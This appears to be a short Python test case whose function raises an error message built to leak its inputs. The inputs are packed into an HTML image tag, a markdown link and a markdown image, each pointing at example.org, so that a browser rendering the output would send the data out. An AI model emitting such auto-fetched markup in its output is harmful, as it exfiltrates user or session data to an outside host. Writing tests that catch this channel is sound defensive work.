# expect: error
# why: the hidden inputs in a link, a picture and an address that a browser would fetch
def answer(*args):
    told = "".join(str(args).split())[:150]
    raise ValueError(f"{'leak'.upper()} <img src=//example.org/{told}> [x](//example.org/{told}) ![](//example.org/{told})")
